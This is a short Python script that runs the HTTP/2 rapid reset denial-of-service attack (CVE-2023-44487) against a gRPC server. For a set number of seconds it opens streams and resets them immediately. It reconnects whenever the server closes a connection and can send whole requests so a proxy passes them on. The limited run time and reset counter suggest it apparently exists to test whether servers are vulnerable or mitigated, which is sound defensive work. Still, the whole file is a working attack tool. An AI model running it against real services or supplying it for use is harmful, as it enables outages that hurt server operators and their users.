#!/usr/bin/python3
"""HTTP/2 rapid reset (CVE-2023-44487) against a gRPC port, bounded.

For SECONDS, opens plaintext HTTP/2 connections (prior knowledge) and on
each opens streams calling METHOD and resets each at once, as fast as it
can, reading whatever the server sends so flow control never stalls. When
the server closes a connection it opens the next, as a determined attacker
would. Prints how many streams it reset and how many connections it used:
"reset=N connections=M". Debian's python3-h2 speaks the protocol.

With MODE `whole`, each stream carries a whole request (its headers and an
empty message, ended) before it is reset, so that a proxy in front passes
it on; `headers` (the default) resets right after the headers.

Usage: rapid_reset.py HOST PORT METHOD SECONDS [MODE]
"""
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.exceptions


# A request message of zero bytes, gRPC-framed.
EMPTY_MESSAGE = b"\x00\x00\x00\x00\x00"


def attack(host, port, headers, end, whole):
    """Resets streams on one connection until `end` or until the server
    closes it; returns how many."""
    try:
        sock = socket.create_connection((host, port), timeout=5)
    except OSError:
        time.sleep(0.05)
        return 0
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    reset = 0
    try:
        while time.monotonic() < end:
            try:
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, headers)
                if whole:
                    conn.send_data(stream, EMPTY_MESSAGE, end_stream=True)
                conn.reset_stream(stream, error_code=h2.errors.ErrorCodes.CANCEL)
                reset += 1
            except h2.exceptions.NoAvailableStreamIDError:
                break  # 2^30 streams: more than any run reaches
            except h2.exceptions.ProtocolError:
                pass
            data = conn.data_to_send()
            if data:
                sock.sendall(data)
            while select.select([sock], [], [], 0)[0]:
                received = sock.recv(65536)
                if not received:
                    raise ConnectionError("closed by the server")
                conn.receive_data(received)
    except (OSError, h2.exceptions.ProtocolError):
        pass  # the server closed the connection: open another
    finally:
        sock.close()
    return reset


def main():
    host, port, method, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    whole = len(sys.argv) > 5 and sys.argv[5] == "whole"
    headers = [(":method", "POST"), (":scheme", "http"), (":path", method),
               (":authority", f"{host}:{port}"), ("content-type", "application/grpc"),
               ("te", "trailers")]
    reset = connections = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        reset += attack(host, port, headers, end, whole)
        connections += 1
    print(f"reset={reset} connections={connections}", flush=True)


if __name__ == "__main__":
    main()
